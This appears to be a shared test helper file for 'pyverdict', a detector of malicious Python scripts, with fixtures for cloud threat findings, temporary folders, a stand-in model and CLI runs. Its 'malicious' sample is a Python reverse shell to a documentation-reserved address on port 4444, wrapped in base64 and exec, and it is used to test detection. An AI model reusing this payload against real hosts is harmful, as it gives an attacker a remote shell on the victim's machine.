// What the tests of this folder share: samples (harmless, with addresses that are reserved for documentation) and the
// command line.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

import { createAnalyzer } from 'pyverdict';

export const root = fileURLToPath(new URL('../..', import.meta.url));
export const cli = join(root, 'dist/npm/cli.js');

const { serve } = await import(pathToFileURL(join(root, 'dist/npm/worker-server.js')).href);

const inner = [
  'import socket, subprocess, os',
  's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
  's.connect(("192.0.2.7", 4444))',
  'os.dup2(s.fileno(), 0)',
  'os.dup2(s.fileno(), 1)',
  'os.dup2(s.fileno(), 2)',
  'subprocess.call(["/bin/sh", "-i"])',
  '',
].join('\n');

export const malicious = `import base64\nexec(base64.b64decode("${Buffer.from(inner).toString('base64')}"))\n`;
export const benign = 'def add(a, b):\n    """The sum."""\n    return a + b\n\n\nprint(add(1, 2))\n';

/** A finding as the API gives it. @param {string} contents @param {string} [eventTime] */
export function finding(contents, eventTime = '2025-06-01T10:00:00Z') {
  return {
    name: 'organizations/1/sources/2/findings/abc',
    parentDisplayName: 'Cloud Run Threat Detection',
    category: 'Execution: Malicious Python executed',
    state: 'ACTIVE',
    severity: 'HIGH',
    findingClass: 'THREAT',
    eventTime,
    resourceName: '//run.googleapis.com/projects/example/locations/europe-west1/services/shop',
    processes: [
      {
        name: 'python3',
        binary: { path: '/usr/bin/python3' },
        script: { path: '/tmp/job.py', size: String(Buffer.byteLength(contents)), contents },
        args: ['python3', '/tmp/job.py'],
      },
    ],
  };
}

/**
 * A folder with these files, removed when the test is over.
 *
 * @param {import('node:test').TestContext} context
 * @param {Record<string, string | Uint8Array>} files
 */
export function folderOf(context, files) {
  const folder = mkdtempSync(join(tmpdir(), 'pyverdict-test-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  for (const [name, contents] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), contents);
  }
  return folder;
}

const verdictHeader = readFileSync(join(root, 'src/verdict/verdict.h'), 'utf8');
const constant = (/** @type {string} */ name) =>
  Number(verdictHeader.match(new RegExp(`\\b${name} = (\\d+);`))?.[1]);

/** What is said of the stand-in for a model. */
export const description = {
  id: 'tiny',
  sha256: '',
  featureVersion: constant('kFeatureVersion'),
  features: JSON.parse(readFileSync(join(root, 'models/model.json'), 'utf8')).features.slice(0, 3),
  hashedFeatures: constant('kHashedFeatures'),
  groups: ['all', 'none'],
  prior: 0.01,
  thresholds: { malicious: 0.5, suspicious: 0.1 },
};

/**
 * A folder with the stand-in for a model.
 *
 * @param {import('node:test').TestContext} context
 * @param {object} [change] of the description
 * @param {string | Uint8Array} [onnx] instead of the model
 */
export function modelFolder(context, change = {}, onnx) {
  const bytes = onnx ?? readFileSync(join(root, 'tests/cases/model/tiny.onnx'));
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  const text = JSON.stringify({ ...description, sha256, ...change });
  return folderOf(context, { 'model.onnx': bytes, 'model.json': text });
}

/** Workers made of message channels, which count how many were started and ended. */
export function workers(create = createAnalyzer) {
  const count = { started: 0, ended: 0 };
  const createWorker = () => {
    count.started += 1;
    const { port1, port2 } = new MessageChannel();
    serve(port1, create);
    port1.start();
    port2.start();
    return {
      postMessage: (/** @type {any} */ message) => port2.postMessage(message),
      addEventListener: (/** @type {any} */ type, /** @type {any} */ listener) =>
        port2.addEventListener(type, listener),
      terminate: () => {
        count.ended += 1;
        port1.close();
        port2.close();
      },
    };
  };
  return { count, createWorker };
}

/**
 * @param {string} command
 * @param {string[]} args
 * @param {{ input?: string | Uint8Array, cwd?: string, env?: Record<string, string> }} [options]
 * @returns {Promise<{ status: number | null, stdout: string, stderr: string }>}
 */
export function run(command, args, { input, cwd, env = {} } = {}) {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, {
      cwd,
      env: { ...process.env, ...env },
      stdio: [input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout?.setEncoding('utf8').on('data', (text) => (stdout += text));
    child.stderr?.setEncoding('utf8').on('data', (text) => (stderr += text));
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout, stderr }));
    child.stdin?.on('error', () => {}).end(input);
  });
}

/** @param {string[]} args @param {Parameters<typeof run>[2]} [options] */
export const pyverdict = (args, options) => run(process.execPath, [cli, ...args], options);
